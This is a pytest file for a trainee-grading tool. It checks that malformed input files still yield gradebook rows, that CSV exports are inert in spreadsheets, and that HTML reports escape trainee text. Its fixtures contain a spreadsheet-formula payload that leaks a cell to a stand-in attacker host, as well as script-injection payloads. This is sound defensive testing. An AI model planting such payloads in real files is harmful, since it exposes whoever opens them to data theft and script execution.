"""Bounded, defensive input and safe exports (issue 17).

Any input file — deeply nested, huge, binary, in the wrong encoding, of the wrong shape —
gives that trainee's row with a clear note, and the batch finishes.  Every CSV the kit
writes is inert in a spreadsheet, the rubric merge reads back what export wrote, and the
HTML pages escape trainee text.
"""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from grading.grader import Limits, Options, grade
from grading.grader.safecsv import TRIGGERS, plain, safe
from grading.grader.submissions import (MAX_ANSWERS_BYTES, MAX_CELLS, MAX_DEPTH, MAX_NOTEBOOK_BYTES, json_depth,
                                        read_answers, read_notebook)
from tests.support import TINY
from tests.support import submissions as S
from tests.support.tiny import tiny, tiny_keys

LIMITS = Limits(cell_timeout=5, timeout=20, memory_mb=1024, max_output_kb=256)
QUIZ = "91-quiz"
QUIZ_KEY = f"""notebook: {QUIZ}
exercises:
  - id: quiz.one
    kind: choose-one
    points: 2
    prompt: Pick
    options: [{{text: A, correct: true}}, {{text: B}}]
  - id: quiz.why
    kind: reflection
    points: 3
    prompt: Why?
    min_words: 3
    rubric: [{{criterion: A reason, points: 3}}]
"""
BINARY = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 64
DEEP = "[" * 200_000 + "]" * 200_000


def _book(out: Path) -> dict:
    with open(out / "gradebook.csv", encoding="utf-8") as fh:
        return {row["trainee"]: row for row in csv.DictReader(fh)}


def _answers(pick: str, why: str) -> dict:
    return {"format": 1, "notebook": QUIZ, "exercises": {
        "quiz.one": {"value": {"kind": "text", "value": pick}},
        "quiz.why": {"value": {"kind": "text", "value": why}}}}


# -- a class of three with a deep, a huge and a binary answers file ------------------------------

def test_deep_huge_and_binary_answers_files_still_give_three_rows(tmp_path):
    """A deeply nested answers file crashed `grade` with a RecursionError: no gradebook for anyone."""
    keys = tiny_keys(tmp_path)
    subs = tmp_path / "subs"
    nb = tiny()
    S.write(subs, "deep", TINY, nb, raw_answers=DEEP)
    S.write(subs, "huge", TINY, nb, raw_answers='{"exercises": {"tiny.pick": {"value": {"kind": "text", "value": "'
            + "A" * (MAX_ANSWERS_BYTES + 10) + '"}}}}')
    (S.write(subs, "binary", TINY, nb) / f"{TINY}.answers.json").write_bytes(BINARY)
    grade(Options(subs, tmp_path / "out", [TINY], jobs=2, limits=LIMITS, keys=keys, quiet=True))
    book = _book(tmp_path / "out")
    assert set(book) == {"deep", "huge", "binary"}
    for row in book.values():
        assert row[f"{TINY} total"] == "2" and row["tiny.pick"] == "0"  # the code answers still count
    assert f"nests its data too deeply (200000 levels; the limit is {MAX_DEPTH})" in book["deep"]["notes"]
    assert "answers file is too large (1.0 MB; the limit is 1.0 MB)" in book["huge"]["notes"]
    assert "answers file is not a text file (binary data)" in book["binary"]["notes"]
    for row in book.values():
        assert "widget exercises count as not answered" in row["notes"]


# -- every other kind of bad file, in a class graded without a kernel --------------------------------

@pytest.fixture(scope="module")
def quiz(tmp_path_factory):
    root = tmp_path_factory.mktemp("quiz")
    keys = root / "keys"
    keys.mkdir()
    (keys / f"{QUIZ}.yml").write_text(QUIZ_KEY, encoding="utf-8")
    subs = root / "subs"
    nb = S.code_notebook("print('hello')")
    right = _answers("A", "Because the queue was long.")
    S.write(subs, "deepnb", QUIZ, raw='{"cells": ' + DEEP + "}", answers=right)
    big = S.write(subs, "hugenb", QUIZ, answers=right)
    with open(big / f"{QUIZ}.ipynb", "wb") as fh:
        fh.truncate(MAX_NOTEBOOK_BYTES + 1)  # sparse: 20 MB of NULs, written at once
    (S.write(subs, "binarynb", QUIZ, answers=right) / f"{QUIZ}.ipynb").write_bytes(BINARY)
    S.write(subs, "junkcells", QUIZ, raw='{"cells": "all of them", "nbformat": 4}', answers=right)
    S.write(subs, "manycells", QUIZ, raw=json.dumps({"cells": [{"cell_type": "code", "source": ""}] * (MAX_CELLS + 1),
                                                    "nbformat": 4, "nbformat_minor": 5, "metadata": {}}),
            answers=right)
    S.write(subs, "oddcells", QUIZ, raw=json.dumps({"cells": [1, None, "x", {"cell_type": "code", "source": 5,
                                                                              "outputs": "none"}],
                                                    "nbformat": 4, "nbformat_minor": 5, "metadata": []}),
            answers=right)
    (S.write(subs, "utf16", QUIZ, nb) / f"{QUIZ}.answers.json").write_bytes(
        json.dumps(_answers("A", "Weil die Schlange lang war.")).encode("utf-16"))
    (S.write(subs, "latin1", QUIZ, nb) / f"{QUIZ}.answers.json").write_bytes(
        json.dumps(_answers("A", "Parce que la file était longue."), ensure_ascii=False).encode("latin-1"))
    wrong_types = {"format": 1, "notebook": ["x"] * 1000, "exercises": {
        "quiz.one": {"value": {"kind": "mapping", "keys": 5, "values": None}},
        "quiz.why": {"value": {"kind": "mapping", "keys": [[1]], "values": [{"a": 1}]}}}}
    S.write(subs, "wrongtypes", QUIZ, nb, wrong_types)
    S.write(subs, "notadict", QUIZ, nb, raw_answers="[1, 2, 3]")
    # exports: a formula-leading reflection, a formula-like trainee id, a number, markup
    S.write(subs, "=1+1", QUIZ, nb, _answers("A", '=HYPERLINK("http://evil.example/?x="&A1,"click me")'))
    S.write(subs, "-bob", QUIZ, nb, _answers("B", "-1.5"))
    S.write(subs, "<img src=x onerror=alert(1)>", QUIZ, nb,
            _answers("<script>alert(1)</script>", "<script>alert(2)</script> because it was late"))
    out = root / "out"
    summary = grade(Options(subs, out, [QUIZ], jobs=2, limits=LIMITS, keys=keys, quiet=True))
    return {"out": out, "book": _book(out), "summary": summary, "keys": keys}


@pytest.mark.parametrize("trainee, says", [
    ("deepnb", f"the notebook file nests its data too deeply (200001 levels; the limit is {MAX_DEPTH})"),
    ("hugenb", "the notebook file is too large (20.0 MB; the limit is 20.0 MB)"),
    ("binarynb", "the notebook file is not a text file (binary data"),
    ("junkcells", "its cells are not a list"),
    ("manycells", f"the notebook has {MAX_CELLS + 1} cells (the limit is {MAX_CELLS})"),
    ("utf16", "the answers file was saved as UTF-16, not UTF-8; it was read anyway"),
    ("latin1", "the answers file is not valid UTF-8 text (first bad byte at position"),
    ("notadict", "the answers file does not have the expected layout"),
    ("wrongtypes", "the answers file says it belongs to list"),
])
def test_every_bad_input_file_is_a_row_with_a_clear_note(quiz, trainee, says):
    assert says in quiz["book"][trainee]["notes"]


def test_what_can_be_read_is_still_graded(quiz):
    book = quiz["book"]
    for trainee in ("deepnb", "hugenb", "binarynb", "junkcells", "manycells", "oddcells", "utf16", "latin1"):
        assert book[trainee]["quiz.one"] == "2", trainee  # the widget answer counts beside a broken notebook
    assert book["wrongtypes"]["quiz.one"] == "0" and book["wrongtypes"]["quiz.why"] == "0"
    results = list(csv.DictReader(open(quiz["out"] / "results.csv", encoding="utf-8")))
    odd = {r["exercise"]: r for r in results if r["trainee"] == "wrongtypes"}
    assert odd["quiz.one"]["status"] == odd["quiz.why"]["status"] == "invalid"
    assert "could not be read" in odd["quiz.why"]["message"]


def test_the_readers_never_raise(tmp_path):
    cases = {"deep": DEEP.encode(), "binary": BINARY, "empty": b"", "nul": b"{\x00}", "bom": b"\xef\xbb\xbf{}",
             "text": "\u4e2d\u6587".encode("gbk"), "nan": b'{"exercises": {"a": NaN}}', "list": b"[]",
             "deep-string": b'{"a": "' + b"[" * 100_000 + b'"}'}
    for name, data in cases.items():
        path = tmp_path / name
        path.write_bytes(data)
        nb, nb_notes = read_notebook(path)
        saved, ans_notes = read_answers(path, QUIZ)
        assert nb is None and nb_notes and (saved is not None or ans_notes), name
    assert read_notebook(tmp_path / "absent")[1] and read_answers(tmp_path / "absent", QUIZ)[1]
    assert json_depth('{"a": [[1], {"b": "[[[[["}]}') == 3


# -- safe exports ---------------------------------------------------------------------------------------

def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _inert(cell: str) -> bool:
    """What a spreadsheet does not run: no formula character first, or a plain number."""
    return not cell.startswith(TRIGGERS) or cell.lstrip("+-").replace(".", "", 1).isdigit()


def test_every_csv_cell_is_inert_in_a_spreadsheet(quiz):
    from grading.grader.rubric import export
    path, _n = export(quiz["out"])
    for name in ("gradebook.csv", "results.csv"):
        assert all(_inert(c) for row in _cells(quiz["out"] / name) for c in row), name
    rows = _cells(path)
    assert all(_inert(c) for row in rows for c in row)
    answers = {row[0]: row[5] for row in rows[1:]}
    assert answers["'=1+1"].startswith("'=HYPERLINK(")  # the formula is text
    assert answers["'-bob"] == "-1.5"  # a negative number stays a number (the id is guarded)
    assert "'=1+1" in quiz["book"] and "'-bob" in quiz["book"]  # trainee ids too


def test_the_rubric_merge_reads_back_what_export_wrote(quiz, tmp_path):
    from grading.grader.rubric import export, merge
    path, _n = export(quiz["out"], tmp_path / "rubric.csv")
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        if row["trainee"] in ("'=1+1", "'-bob"):
            row["score"], row["comment"] = "1.5", "-see me: =why?"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert merge(quiz["out"], path).scores == 2
    manual = json.loads((quiz["out"] / "manual.json").read_text(encoding="utf-8"))
    assert manual["=1+1"]["quiz.why"]["comment"] == "'-see me: =why?"[1:]
    book = _book(quiz["out"])
    assert book["'=1+1"]["quiz.why"] == book["'-bob"]["quiz.why"] == "1.5"
    again, _n = export(quiz["out"], tmp_path / "again.csv")  # pre-filled: the comment is guarded again
    comments = {row[0]: row[9] for row in _cells(again)[1:]}
    assert comments["'-bob"] == "'-see me: =why?"


def test_safe_is_reversible_and_keeps_numbers():
    for text in ("=1+1", "+cmd", "-x", "@SUM(A1)", "\tx", "\rx", "'=x", "''-x", "plain", "", "'", "it's"):
        assert plain(safe(text)) == text
        assert _inert(safe(text))
    for number in ("-1.5", "+3", "0", "2.50", "-2e3", ".5"):
        assert safe(number) == number
    assert safe("-2+3") == "'-2+3"


def test_html_pages_escape_trainee_text(quiz):
    out = quiz["out"]
    pages = [out / "report.html", *(out / "feedback").glob("*.html")]
    assert len(pages) == len(quiz["book"]) + 1
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "<script>alert" not in html and "<img src=x" not in html, page.name
    report = (out / "report.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in report or "&lt;script&gt;alert(1)" in report
